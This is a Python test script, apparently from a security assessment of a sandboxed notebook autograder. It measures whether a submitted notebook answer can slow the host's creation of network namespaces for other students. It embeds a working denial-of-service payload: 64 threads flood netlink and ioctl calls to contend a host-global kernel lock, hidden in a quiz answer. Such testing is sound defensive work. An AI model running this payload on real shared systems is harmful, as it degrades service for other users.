"""a09: host-global locks reachable from a sandbox without capabilities: SIOCGIFCONF and RTM_GETLINK/GETADDR dumps
in its own network namespace take RTNL (one mutex for the whole host). 64 threads hammer it for 45 s; the host
meanwhile times `unshare -n true` (a new network namespace: what bwrap does for every next submission) and
`ip -o link` in its own namespace. Control: mallory sleeps instead."""
import sys, threading, statistics, os, time, subprocess; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from lib import *
MODE = sys.argv[1] if len(sys.argv) > 1 else "rtnl"
DUR = 45
ATTACK = f'''q1 = "b"
import os, threading, time, socket, fcntl, struct, array
def _hammer():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    buf = array.array("B", b"\\0" * 4096)
    n = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    end = time.time() + {DUR}
    k = 0
    while time.time() < end:
        fcntl.ioctl(s.fileno(), 0x8912, struct.pack("iL", 4096, buf.buffer_info()[0]))  # SIOCGIFCONF
        for typ in (18, 22):  # RTM_GETLINK, RTM_GETADDR dumps
            n.send(struct.pack("=LHHLL", 32, typ, 0x301, k, 0) + b"\\0" * 16); k += 1
            while True:
                data = n.recv(65536)
                if struct.unpack_from("=H", data, 4)[0] in (3, 2): break
_ts = [threading.Thread(target=_hammer) for _ in range(64)]
[t.start() for t in _ts]; [t.join() for t in _ts]
print("hammer done")
'''
SLEEP = f'q1 = "b"\nimport time\ntime.sleep({DUR})\n'
lat, stop = [], [False]
def prober():
    while not stop[0]:
        t = time.time(); subprocess.run(["unshare", "-n", "true"]); lat.append((t, time.time() - t)); time.sleep(0.1)
th = threading.Thread(target=prober); th.start()
d = make_course("a09" + MODE)
hand_in(d, "aaron", notebook())
hand_in(d, "mallory", notebook(overrides={"quiz_q1": ATTACK if MODE == "rtnl" else SLEEP}))
hand_in(d, "zoe", notebook())
t0 = time.time()
grade(d)
stop[0] = True; th.join()
scores(d)
rep = json.load(open(f"{d}/grading_report.json"))
a = next(r for r in rep if r["student"] == "aaron")["seconds"]; m = next(r for r in rep if r["student"] == "mallory")["seconds"]
win = [l for t, l in lat if t0 + a + 5 < t < t0 + a + m - 2]
def s(x):
    x = sorted(x); return f"n={len(x)} median={1000*statistics.median(x):.1f}ms p90={1000*x[int(.9*len(x))]:.1f}ms max={1000*x[-1]:.1f}ms" if x else "none"
print(MODE, "host `unshare -n true` during mallory:", s(win))
print(MODE, "seconds:", {r["student"]: round(r["seconds"], 1) for r in rep})
print("hammer ran:", open(f"{d}/autograded/mallory/ps1_memory/ps1_memory.ipynb").read().count("hammer done"))
